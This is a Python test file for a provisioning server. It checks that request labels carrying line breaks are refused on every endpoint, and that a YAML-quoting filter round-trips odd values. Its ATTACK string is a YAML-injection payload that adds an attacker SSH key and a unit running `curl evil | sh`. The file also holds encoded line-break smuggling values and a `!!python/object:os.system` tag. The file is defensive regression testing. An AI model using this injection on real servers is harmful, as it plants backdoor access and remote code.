"""Request labels cannot add lines to a host's config, and `| yaml` puts any value in as one YAML string.

The attack (issue 19 #9): `GET /cloud?hostname=evil%0assh_authorized_keys:...` against a template
with `hostname: {{ request.query.hostname }}` gave the requester an extra SSH key and a unit, and
the result passed cloud-config validation. Now a label with a control character or any line break
YAML knows (LF, CR, NEL, U+2028, U+2029) is refused with 400 naming it, on every endpoint; and the
`yaml` filter quotes values (here also ones with line breaks, from the group's own metadata) so
that parsing the rendered YAML gives back the same string. The server is the real one (uvicorn on
loopback); YAML is parsed with PyYAML's pure-Python and libyaml loaders, as cloudconfig does.
"""

from __future__ import annotations

import json
from pathlib import Path
from urllib.parse import quote

import pytest
import requests
import yaml
from hypothesis import given
from hypothesis import strategies as st

from provision import render
from provision.model import parse_group
from provision.select import labels_from_query

ATTACK = ("evil{nl}ssh_authorized_keys:{nl}  - ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIattacker{nl}coreos:{nl}"
          "  units:{nl}    - name: evil.service{nl}      command: start{nl}      content: |{nl}"
          "        [Service]{nl}        ExecStart=/bin/sh -c 'curl evil | sh'")
# Percent-encoded as a client sends them: every character YAML, a shell or a boot script breaks a
# line at, and other control characters.
BREAKS = {"LF": "%0a", "CR": "%0d", "CRLF": "%0d%0a", "TAB": "%09", "NUL": "%00", "VT": "%0b", "FF": "%0c",
          "ESC": "%1b", "DEL": "%7f", "NEL U+0085": "%c2%85", "CSI U+009B": "%c2%9b", "LS U+2028": "%e2%80%a8",
          "PS U+2029": "%e2%80%a9"}
ENDPOINTS = ("/cloud", "/generic", "/ipxe", "/grub", "/metadata")
# Values a label may hold (one line of text) that mean something to YAML when pasted in raw.
YAML_SPECIAL = ["a: b # c", "#", "x #y", "- item", "[1, 2]", "{k: v}", "'single'", '"double"', "back\\slash",
                "&anchor", "*alias", "!!python/object:os.system", "%TAG ! x", "@at", "`tick`", "| block",
                "> folded", "yes", "no", "null", "~", "0o17", "0x1f", "1e3", ".inf", " lead", "trail ", "   ",
                "caf\u00e9 \u2603 \U0001f600", "\u202eright-to-left", "a\u200bb", "\u00a0", "?", ": ", "-", "---",
                "...", "key: [unclosed", "k: v\\nx: y"]
# Values only the group's own data can hold (labels cannot): line breaks of every kind.
MULTILINE = ["one\ntwo", "cr\rlf\r\n", "tab\there", "nel\x85x", "ls\u2028ps\u2029", "evil\nssh_authorized_keys: [k]",
             "x\n- y", "\x00\x07\x1b[31m\x7f", "\ufeffbom", "\ufffe\uffff"]


def _put(data: Path, rel: str, value: object) -> None:
    path = data / rel
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(value if isinstance(value, str) else json.dumps(value, indent=2) + "\n")


def _loads(text: str) -> object:
    """What cloudconfig sees: libyaml when present, and the pure-Python loader must agree."""
    pure = yaml.load(text, Loader=yaml.SafeLoader)  # noqa: S506 - SafeLoader
    fast = yaml.load(text, Loader=getattr(yaml, "CSafeLoader", yaml.SafeLoader))  # noqa: S506
    assert pure == fast
    return pure


@pytest.mark.timeout(180)
def test_a_line_break_in_a_label_is_refused_on_every_endpoint(data: Path, serve) -> None:  # noqa: ANN001
    # The template of the report: a label pasted into YAML raw. Even this one cannot be abused now.
    _put(data, "cloud/raw.yaml", "#cloud-config\nhostname: {{ request.query.hostname }}\n")
    _put(data, "generic/raw.txt", "host {{ request.query.hostname }}\n")
    _put(data, "profiles/raw.json", {"boot": {"kernel": "/assets/k", "args": ["h={{ request.query.hostname }}"]},
                                     "cloud_id": "raw.yaml", "generic_id": "raw.txt"})
    _put(data, "groups/raw.json", {"profile": "raw", "selector": {"os": "raw"}})
    s = serve(data)
    tried = 0
    for name, enc in BREAKS.items():
        for label in ("hostname", "serial", "mac"):
            value = quote(ATTACK.format(nl="\x00"), safe=":/|' [].=-").replace("%00", enc)
            for ep in ENDPOINTS:
                r = requests.get(f"{s.url}{ep}?os=raw&{label}={value}", timeout=10)
                tried += 1
                assert r.status_code == 400, (name, label, ep, r.status_code, r.text[:300])
                line = r.text.rstrip("\n")
                assert "\n" not in line and line.startswith("error: "), (name, r.text)
                assert f"label {label!r} has a control character or line break" in line, (name, line)
                assert "ssh_authorized_keys" not in r.text, "nothing of the value is echoed"
    # A repeat of the key after a clean first value never reaches a template: not refused.
    r = requests.get(f"{s.url}/cloud?os=raw&hostname=node7&hostname=evil%0ax", timeout=10)
    assert r.status_code == 200 and r.text == "#cloud-config\nhostname: node7\n", r.text
    # The write API's /select takes the same labels and refuses them the same way (no token: 403 first).
    assert requests.get(f"{s.url}/api/v1/select?hostname=a%0ab", timeout=10).status_code == 403
    assert tried == len(BREAKS) * 3 * len(ENDPOINTS)
    assert "Traceback" not in s.log_text()


@pytest.mark.timeout(120)
def test_yaml_filter_round_trips_labels_and_metadata_through_the_server(data: Path, serve) -> None:  # noqa: ANN001
    meta = {f"m{i}": v for i, v in enumerate(YAML_SPECIAL + MULTILINE)}
    lines = ["#cloud-config", "write_files:"]
    for k in meta:
        lines += [f"  - path: /etc/meta/{k}", f"    content: {{{{ {k} | yaml }}}}"]
    lines += ["  - path: /etc/label", "    content: {{ request.query.note | yaml }}",
              "  - path: /etc/flow", "    content: {{ request.query.note | yaml }}",
              "    permissions: {{ '0644' | yaml }}"]
    _put(data, "cloud/quoted.yaml", "\n".join(lines) + "\n")
    _put(data, "generic/quoted.txt", "flow: [{{ request.query.note | yaml }}, {k: {{ request.query.note | yaml }}}]\n"
                                     "list:\n  - - {{ request.query.note | yaml }}\n")
    _put(data, "profiles/quoted.json", {"boot": {"kernel": "/assets/k"}, "cloud_id": "quoted.yaml",
                                        "generic_id": "quoted.txt"})
    _put(data, "groups/quoted.json", {"profile": "quoted", "selector": {"os": "quoted"}, "metadata": meta})
    s = serve(data)
    for note in YAML_SPECIAL:
        q = f"os=quoted&note={quote(note, safe='')}"
        r = requests.get(f"{s.url}/cloud?{q}", timeout=10)
        assert r.status_code == 200, (note, r.text)  # rendered and validated by cloudconfig
        doc = _loads(r.text)
        assert set(doc) == {"write_files"}, doc
        files = {f["path"]: f["content"] for f in doc["write_files"]}
        assert files["/etc/label"] == note and files["/etc/flow"] == note
        assert {p[len("/etc/meta/"):]: c for p, c in files.items() if p.startswith("/etc/meta/")} == meta
        g = requests.get(f"{s.url}/generic?{q}", timeout=10)
        assert g.status_code == 200
        assert _loads(g.text) == {"flow": [note, {"k": note}], "list": [[note]]}


@given(st.text(alphabet=st.characters(blacklist_categories=["Cs"]), max_size=60))
def test_yaml_filter_round_trips_any_text(value: str) -> None:
    """Any string (but a lone surrogate) rendered through `| yaml` in a mapping, a list and flow
    collections parses back to itself, in YAML 1.1 (PyYAML) pure and libyaml."""
    group = parse_group({"profile": "p", "metadata": {"v": value}}, ident="g")
    ctx = render.Context(group, labels_from_query([]), "", "http://h:1")
    text = render.render("a: {{ v | yaml }}\nb:\n  - {{ v | yaml }}\nc: [{{ v | yaml }}, {x: {{ v | yaml }}}]\n",
                         "t", ctx)
    assert _loads(text) == {"a": value, "b": [value], "c": [value, {"x": value}]}
    assert "\n" not in render.yaml_quote(value) and "\r" not in render.yaml_quote(value)


def test_yaml_filter_is_strict_about_what_it_cannot_quote() -> None:
    group = parse_group({"profile": "p", "metadata": {"bad": "\ud800"}}, ident="g")
    ctx = render.Context(group, labels_from_query([]), "", "http://h:1")
    with pytest.raises(render.RenderError, match="lone surrogate"):
        render.render("a: {{ bad | yaml }}\n", "t", ctx)
    with pytest.raises(render.RenderError, match="'missing' is undefined"):
        render.render("a: {{ missing | yaml }}\n", "t", ctx)
    assert render.render("a: {{ 7 | yaml }}\n", "t", ctx) == 'a: "7"\n'
